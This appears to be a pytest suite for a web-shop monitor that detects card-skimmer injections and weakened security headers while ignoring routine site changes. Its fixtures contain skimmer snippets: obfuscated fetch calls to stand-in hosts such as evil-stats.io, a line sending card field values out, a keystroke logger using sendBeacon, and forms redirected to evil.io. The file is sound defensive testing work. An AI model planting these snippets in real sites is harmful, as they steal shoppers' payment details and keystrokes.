"""What runs on a shop: every mutation of a skimmer is told, daily trade never is."""

from __future__ import annotations

import base64
import time
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from monitor.policy.drifting.change import Change, Kind, Leeway, Weight
from monitor.policy.drifting.compare import changes, features, settled
from monitor.policy.drifting.zones import party
from scanners.api import encode_facts
from scanners.drift.code import read_code
from scanners.drift.evidence import DriftFacts, Parts
from scanners.drift.folding import folded, unfolded
from scanners.drift.hosts import named_hosts
from scanners.drift.risks import risks_in
from scanners.drift.stable_urls import data_text, plain_host, plain_path, plain_url
from tests.unit.drift_parts_kit import CSP, GTM, HEAD, HEADERS, SHOP, Site

BASE = Site().facts()
CRITICAL, HIGH, REVIEW = Weight.CRITICAL, Weight.HIGH, Weight.REVIEW
EVIL = "https://evil-stats.io/c"
B64 = base64.b64encode(EVIL.encode()).decode()
CODES = ",".join(str(ord(c)) for c in EVIL)


def on(path: str, html: str) -> Site:
    return Site(more={path: html})


def loud(found: tuple[Change, ...]) -> list[tuple[str, str]]:
    return [(c.kind.value, c.weight.value) for c in found if c.weight is not REVIEW]


def after(site: Site) -> tuple[Change, ...]:
    return changes(BASE, site.facts())


def code(text: str) -> str:
    return f"<script>{text}</script>"


@pytest.mark.parametrize(
    ("site", "kind", "weight"),
    [
        (on("/checkout", '<script src="//cdn.evil-stats.io/a.js"></script>'),
         "script_host_added", HIGH),
        (on("/", '<script src="//cdn.evil-stats.io/a.js"></script>'), "script_host_added", HIGH),
        (on("/cart", '<script src="https://static.hotjar.com/c/hotjar-1.js"></script>'),
         "script_host_added", HIGH),
        (on("/login", '<script src="https://static.hotjar.com/c/hotjar-1.js"></script>'),
         "script_host_added", HIGH),
        (on("/checkout", '<script src="https://google-analytics.com.evil.io/ga.js"></script>'),
         "script_host_added", HIGH),
        (on("/checkout", '<script src="https://192.0.2.7/a.js"></script>'),
         "script_host_added", HIGH),
        (on("/checkout", code(f"new Image().src='{EVIL}?'+document.forms[0].cc.value")),
         "script_host_added", HIGH),
        (on("/checkout", code(f"var u=atob('{B64}');fetch(u)")), "script_host_added", HIGH),
        (on("/checkout", code(f"var u=atob('{B64}');fetch(u)")), "risk_added", CRITICAL),
        (on("/checkout", code(f"fetch(String.fromCharCode({CODES}))")), "risk_added", CRITICAL),
        (on("/checkout", code("fetch('htt'+'ps://ev'+'il.i'+'o/x')")), "risk_added", CRITICAL),
        (on("/checkout", code("fetch('\\x68ttps://\\x65vil.io')")), "risk_added", CRITICAL),
        (on("/checkout", code("fetch('oi.live//:sptth'.split('').reverse().join(''))")),
         "risk_added", CRITICAL),
        (on("/checkout", code("fetch('//'+['evil','io'].join('.'))")), "risk_added", CRITICAL),
        (on("/checkout", code("var k='';document.onkeydown=function(e){k+=e.key;"
                              "navigator.sendBeacon('/t',k)}")), "risk_added", CRITICAL),
        (on("/checkout", code("var _0xa1=1,_0xa2=_0xa1,_0xa3=_0xa2,_0xa4=_0xa3,_0xa5=_0xa4;"
                              "_0xa6(_0xa5)")), "risk_added", CRITICAL),
        (on("/checkout", code("setInterval(function(){var n=document.querySelector("
                              "'[name=cardnumber]').value;fetch('/log?'+n)},500)")),
         "risk_added", CRITICAL),
        (on("/checkout", code("eval(atob('YWxlcnQoMSk7Ly8gc29tZQ=='))")), "risk_added", CRITICAL),
        (on("/", code("eval(atob('YWxlcnQoMSk7Ly8gc29tZXRoaW5n'))")), "risk_added", HIGH),
        (on("/checkout", f'<img src="x" onerror="fetch(atob(\'{B64}\')).then(r=>r.text())">'),
         "risk_added", CRITICAL),
        (on("/checkout", f'<script src="data:text/javascript;base64,'
            f'{base64.b64encode(f"fetch({EVIL!r})".encode()).decode()}"></script>'),
         "script_host_added", HIGH),
        (on("/checkout", '<iframe src="https://evil-pay.io/card"></iframe>'),
         "frame_host_added", CRITICAL),
        (on("/", '<iframe src="https://evil-pay.io/card"></iframe>'), "frame_host_added", HIGH),
        (on("/checkout", '<iframe srcdoc="&lt;form&gt;&lt;input name=cc&gt;&lt;/form&gt;">'
            "</iframe>"), "frame_host_added", CRITICAL),
        (on("/checkout", '<iframe src="data:text/html,<script>1</script>"></iframe>'),
         "frame_host_added", CRITICAL),
        (on("/checkout", '<object data="https://evil-pay.io/card"></object>'),
         "frame_host_added", CRITICAL),
        (on("/checkout", '<link rel="stylesheet" href="https://evil-css.io/a.css">'),
         "style_host_added", HIGH),
        (on("/checkout", "<style>input[value^=a]{background:url(https://evil-css.io/a)}</style>"),
         "style_host_added", HIGH),
        (on("/checkout", "<style>@import 'https://evil-css.io/a.css';</style>"),
         "style_host_added", HIGH),
        (on("/contact", '<form action="https://evil.io/f" method="post"><input name="email">'
            '<input name="naam"></form>'), "form_target_changed", CRITICAL),
        (on("/checkout", '<form method="post"><input name="email">'
            '<button formaction="https://evil.io/f">Betaal</button></form>'),
         "form_target_changed", CRITICAL),
        (on("/checkout", '<form action="http://shop.example.nl/f" method="post">'
            '<input name="email"></form>'), "form_target_changed", HIGH),
        (Site(head='<base href="https://evil.io/">' + HEAD), "base_changed", CRITICAL),
        (Site(head=HEAD.replace("GTM-ABCD12", "GTM-EVIL99")), "container_changed", HIGH),
        (on("/checkout", code(GTM.replace("GTM-ABCD12", "GTM-EVIL99"))), "container_changed", HIGH),
        (Site(head=HEAD.replace(' integrity="sha384-x"', "")), "integrity_gone", HIGH),
        (Site(headers={"/checkout": HEADERS[1:]}), "header_weakened", HIGH),
        (Site(headers={"*": HEADERS[1:]}), "header_weakened", HIGH),
        (on("/checkout", '<form action="https://forms.hubspot.com/x" method="post">'
            '<input name="email"></form>'), "form_target_changed", CRITICAL),
        (on("/contact", '<form action="https://forms.hubspot.com/x" method="post">'
            '<input name="email"></form>'), "form_target_changed", HIGH),
        (on("/contact", '<iframe srcdoc="&lt;form&gt;"></iframe>'), "frame_host_added", HIGH),
        (Site(headers={"/contact": HEADERS[1:]}), "header_weakened", HIGH),
        (Site(headers={"/checkout": HEADERS[:2]}), "header_weakened", HIGH),
        (Site(headers={"/terms": (HEADERS[0], HEADERS[2])}), "header_weakened", HIGH),
        (Site(headers={"/checkout": (("content-security-policy",
              CSP.replace("'nonce-abc'", "'unsafe-inline'")), *HEADERS[1:])}),
         "header_weakened", HIGH),
        (Site(headers={"/checkout": (("content-security-policy",
              CSP.replace("eu;", "eu evil.io;")), *HEADERS[1:])}), "header_weakened", HIGH),
        (Site(headers={"/checkout": (("content-security-policy",
              CSP.replace("form-action 'self'", "")), *HEADERS[1:])}), "header_weakened", HIGH),
    ],
)  # fmt: skip
def test_a_mutation_of_the_trade_is_told(site: Site, kind: str, weight: Weight) -> None:
    assert (kind, weight.value) in loud(after(site))


def head(old: str, new: str) -> Site:
    assert old in HEAD
    return Site(head=HEAD.replace(old, new))


@pytest.mark.parametrize(
    "site",
    [
        Site(),
        head("r4nd0m", "0ther"),
        head("app.3f9a1c22", "app.99bbcc01"),
        head("?v=12", "?v=13&t=9"),
        head("cdn1.", "cdn2."),
        head("2.1.0", "2.2.0-rc1"),
        head("{items:[{sku:'A1',qty:2}],token:'f00'}", "{items:[],token:'bar',more:{a:[1,2]}}"),
        head("</script>", "</script><script src='/assets/chunk-123.js'></script>"),
        Site(more={"*": code("window.promo={link:'https://partner-actie.example.org/x',n:1}")}),
        Site(more={"*": code("if(Math.random()<.5){document.body.className+=' variant-b'}")}),
        Site(more={"/": '<script src="https://www.googletagmanager.com/gtag/js?id=G-AAAA1111">'
                        "</script>"}),
        Site(more={"/p/pen": '<iframe src="https://www.youtube.com/embed/x"></iframe>'}),
        Site(more={"/contact": '<iframe src="https://www.google.com/maps/embed?x"></iframe>'}),
        Site(more={"/checkout": '<iframe src="https://js.stripe.com/v3/x"></iframe>'}),
        Site(more={"*": '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-'
                        'ABCD12"></iframe></noscript>'}),
        Site(more={"*": '<link rel="stylesheet" href="https://fonts.googleapis.com/css?x">'}),
        Site(more={"*": '<form action="/zoek"><input name="q"></form>'}),
        Site(more={"*": '<form action="/nieuws" method="post"><input name="email"></form>'}),
        Site(more={"/cart": "<input type='hidden' name='csrf' value='x'><p>3 artikelen</p>"}),
        Site(more={"/": '<script type="application/ld+json">{"url":"https://evil.io"}</script>'}),
        Site(more={"*": code("var svg='http://www.w3.org/2000/svg';document.createElement(svg)")}),
        Site(headers={p: (("content-security-policy", CSP.replace("abc", "xyz")), *HEADERS[1:])
                      for p in ("/", "/checkout")}),
        Site(headers={"/checkout": (*HEADERS, ("x-powered-by", "x"))}),
        Site(headers={"/checkout": (HEADERS[0], ("strict-transport-security",
                      "max-age=63072000; includeSubDomains"), HEADERS[2])}),
        Site(paths=("/", "/contact", "/terms")),
        Site(more={"/": '<form action="https://x.list-manage.com/s" method="post">'
                        '<input name="email"></form>'}),
        Site(more={"/": '<form action="http://shop.example.nl/s" method="post">'
                        '<input name="email"></form>'}),
        Site(more={"/contact": '<script src="https://cdn7.vendor-cdn.eu/x/y.js"></script>'}),
        Site(more={"/contact": '<iframe src="https://app.vendor-cdn.eu/x"></iframe>'}),
        Site(more={"/": '<iframe srcdoc="&lt;form&gt;"></iframe>'}),
        Site(headers={"/": HEADERS[:2]}),
        Site(headers={"/checkout": (*HEADERS[:2], ("x-frame-options", "DENY"))}),
        Site(headers={"/checkout": (("content-security-policy",
                      f"{CSP}; frame-ancestors 'none'"), HEADERS[1], HEADERS[2])}),
        Site(headers={"/checkout": (("content-security-policy",
                      CSP.replace("eu;", "eu js.stripe.com;")), *HEADERS[1:])}),
    ],
)  # fmt: skip
def test_a_day_of_trade_is_quiet(site: Site) -> None:
    assert loud(after(site)) == []
    assert loud(changes(site.facts(), BASE)) == []


def test_the_same_site_gives_the_same_facts_and_small_ones() -> None:
    assert Site().facts() == BASE
    assert len(encode_facts(BASE)) < 6_000
    assert changes(BASE, BASE) == ()


def test_a_policy_that_comes_weakens_nothing() -> None:
    assert changes(Site(headers={"*": HEADERS[1:]}).facts(), BASE) == ()


def test_a_form_of_a_payment_service_or_of_a_known_target_is_for_review() -> None:
    form = '<form action="https://{}/f" method="post"><input name="email"></form>'
    psp = on("/checkout", form.format("www.mollie.com"))
    assert [(c.kind, c.weight) for c in after(psp)] == [(Kind.FORM_TARGET_CHANGED, REVIEW)]
    one = form.format("mail.partner-x.eu")
    before, now = on("/", one).facts(), Site(more={"/": one, "/cart": one}).facts()
    assert [c.weight for c in changes(before, now)] == [REVIEW]


def test_settings_in_base64_that_name_a_known_party_hide_nothing() -> None:
    known = base64.b64encode(b'{"u":"https://checkoutshopper.adyen.com/x"}').decode()
    found = after(on("/p/pen", code(f"load(JSON.parse(atob('{known}')))")))
    assert loud(found) == []
    own = base64.b64encode(b"https://shop.example.nl/api").decode()
    assert loud(after(on("/checkout", code(f"fetch(atob('{own}'))")))) == []


NOSNIFF = ("x-content-type-options", "nosniff")


def test_weaker_headers_are_told_once_each_and_by_what_they_guard() -> None:
    strict = (*HEADERS, NOSNIFF)
    before = Site(headers=dict.fromkeys(("/", "/checkout", "/cart"), strict)).facts()
    bare = Site(headers=dict.fromkeys(("/", "/checkout", "/cart"), (NOSNIFF,))).facts()
    found = changes(before, bare)
    assert sorted(c.named for c in found) == [
        "content-security-policy", "strict-transport-security", "x-frame-options",
    ]  # fmt: skip
    assert {c.role for c in found} == {"checkout"}
    dropped = changes(before, BASE)
    assert [(c.named, c.weight) for c in dropped] == [("x-content-type-options", REVIEW)]
    assert set(found[0].lost) <= features(before)


def test_a_policy_that_let_in_everybody_lets_in_nobody_new() -> None:
    wide = (("content-security-policy", "script-src https: 'self'; img-src x.nl"), *HEADERS[1:])
    named = (("content-security-policy", "script-src https: evil.io"), *HEADERS[1:])
    one, other = (Site(headers={"/checkout": h}).facts() for h in (wide, named))
    assert changes(one, other) == ()


def test_a_party_of_the_open_pages_is_news_at_the_till_only() -> None:
    script = '<script src="https://cdn.partner-x.eu/a.js"></script>'
    before = on("/", script).facts()
    everywhere = Site(more={"/": script, "/contact": script}).facts()
    assert loud(changes(before, everywhere)) == []
    till = Site(more={"/": script, "/cart": script}).facts()
    assert loud(changes(before, till)) == [("script_host_added", "high")]


def test_what_comes_is_told_once_and_of_the_till() -> None:
    found = after(on("*", '<script src="//cdn.evil-stats.io/a.js"></script>'))
    (change,) = [c for c in found if c.kind is Kind.SCRIPT_HOST_ADDED]
    assert (change.role, change.named) == ("checkout", "evil-stats.io")
    assert change.came == ("script_host:till:evil-stats.io",)
    assert set(change.came) <= features(on("*", '<script src="//cdn.evil-stats.io/a.js">').facts())


def test_a_page_that_was_not_read_before_is_for_review() -> None:
    before = Site(paths=("/", "/contact", "/terms")).facts()
    site = on("/checkout", '<script src="//cdn.evil-stats.io/a.js"></script>')
    (change,) = [c for c in changes(before, site.facts()) if "evil" in c.named]
    assert change.weight is REVIEW
    assert changes(replace(BASE, parts=()), site.facts()) == ()


def test_a_version_of_a_test_that_was_accepted_stays_quiet() -> None:
    other = on("/checkout", '<script src="//cdn.evil-stats.io/a.js"></script>').facts()
    assert loud(settled((other, BASE), other)) == []
    assert loud(settled((BASE,), other)) != []
    common = Leeway(common=frozenset({"script_host:till:evil-stats.io"}))
    assert loud(settled((BASE,), other, common)) == []


def test_an_own_file_is_told_by_what_came_into_it() -> None:
    path = "/assets/app.3f9a1c22.js?v=12"
    clean = replace_files({path: b"var a=1;fetch('/own')"})
    dirty = replace_files({path: f"var a=1;fetch(atob('{B64}'))".encode()})
    kinds = loud(changes(clean, dirty))
    assert ("script_host_added", "high") in kinds
    assert ("risk_added", "critical") in kinds
    assert loud(changes(clean, replace_files({path: b"var b=2;fetch('/other')"}))) == []


def test_a_file_that_was_not_read_before_proves_nothing() -> None:
    path = "/assets/app.3f9a1c22.js?v=12"
    dirty = replace_files({path: f"var a=1;fetch(atob('{B64}'))".encode()})
    assert loud(changes(BASE, dirty)) == []


def replace_files(files: dict[str, bytes]) -> DriftFacts:
    return Site(files=files).facts()


# Reading


@pytest.mark.parametrize(
    ("text", "hosts", "hidden"),
    [
        (f"u=atob('{B64}')", ["evil-stats.io"], True),
        ("u='https:\\/\\/ok.nl\\/x'", ["ok.nl"], False),
        ("h='evil.io';u='https://'+h", ["evil.io"], False),
        ("u='68747470733a2f2f6576696c2e696f'", ["evil.io"], True),
        ("u='%68%74%74%70%73%3a%2f%2f%65%76il.io'", ["evil.io"], True),
        (f"u=[{CODES}]", ["evil-stats.io"], True),
        ("u=['io','evil'].reverse().join('.')", ["evil.io"], True),
        ("u='https://pic.nl/a.jpg'", [], False),
        ("u='//'+location.host", [], False),
        ("open('https://www.facebook.com/sharer/sharer.php?u=')", [], False),
    ],
)
def test_hosts_are_found_however_they_are_written(
    text: str, hosts: list[str], hidden: bool
) -> None:
    found = named_hosts(text, read_code(text).texts)
    assert list(found.hosts) == hosts
    assert bool(found.hidden) is hidden


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("var a='x',b=[1,2,{c:'d'}];f(a)", "var a='yy',b=[];f(a)"),
        ("push({a:1});push({a:2});", "push({b:{c:3}});"),
        ("/* c */ f(1) // x", "f(2)"),
        ("a('x'+'y')", "a('z')"),
        ("item123.go(1)", "item7.go(9)"),
    ],
)
def test_values_leave_the_skeleton_as_it_was(one: str, other: str) -> None:
    assert read_code(one).digest == read_code(other).digest


def test_another_call_is_another_skeleton() -> None:
    assert read_code("f(a)").digest != read_code("g(a)").digest


@pytest.mark.parametrize(
    ("path", "plain"),
    [
        ("/assets/app.3f9a1c22.js", "/assets/app.#.js"),
        ("/static/chunk-123.js", "/static/chunk-#.js"),
        ("/npm/swiper@8.4.5/swiper.min.js", "/npm/swiper@#/swiper.min.js"),
        (
            "/recaptcha/releases/aBc1dEf2gH/recaptcha__nl.js",
            "/recaptcha/releases/#/recaptcha__#.js",
        ),
        ("/checkout", "/checkout"),
    ],
)
def test_releases_leave_a_path_as_it_was(path: str, plain: str) -> None:
    assert plain_path(path) == plain


def test_addresses_of_any_kind_are_read() -> None:
    assert plain_host("cdn02.shop.nl") == "cdn#.shop.nl"
    assert plain_host("192.0.2.1") == "192.0.2.1"
    assert plain_url("http://[") == "/"
    assert data_text("data:text/html,%3Cb%3E") == "<b>"
    assert data_text("data:x;base64,=a=") == data_text("data:x") == ""
    assert party("cdn.jsdelivr.net", "/gh/a/b@1/c.js") == "cdn.jsdelivr.net/gh/a/b@1"
    assert party("x.evil.co.uk") == "evil.co.uk"
    assert party("192.0.2.1") == "192.0.2.1"
    assert party("x.evil.com.pl") == "evil.com.pl"
    assert party("maps.googleapis.com") == "maps.googleapis.com"


@given(st.text(max_size=400))
@settings(max_examples=60, deadline=None)
def test_any_text_is_read(text: str) -> None:
    read = read_code(text)
    found = named_hosts(text, read.texts)
    risks_in(text, found.decoded, hidden=bool(found.hidden))
    assert read.digest == read_code(text).digest


@pytest.mark.parametrize(
    "piece", ["/*a", "[{(", "'a'+", "=/[", "\\", "10,", "//a.", "A", "['a','b'", "_0x1", "*/"]
)
def test_two_megabytes_of_anything_are_read_in_time(piece: str) -> None:
    text = "'" * (piece == "A") + piece * (2_000_000 // len(piece))
    began = time.process_time()
    read = read_code(text)
    named_hosts(text, read.texts)
    risks_in(text, "", hidden=False)
    assert time.process_time() - began < 4


def test_ten_thousand_scripts_are_read_in_time_and_bounded() -> None:
    began = time.process_time()
    many = "".join(code(f"f{'x' * (n % 97)}({n})") for n in range(10_000))
    facts = Site(more={"/": many}).facts()
    assert time.process_time() - began < 6
    assert max(len(parts.scripts) for parts in unfolded(facts.parts)) <= 150


def test_folding_loses_nothing() -> None:
    whole = [replace(one, urls=(f"{SHOP}/{n}",)) for n, one in enumerate(unfolded(BASE.parts))]
    assert list(unfolded(folded(whole))) == whole
    assert folded(whole[:1]) == (whole[0],)
    assert unfolded((Parts("start", ()),)) == (Parts("start", ()),)
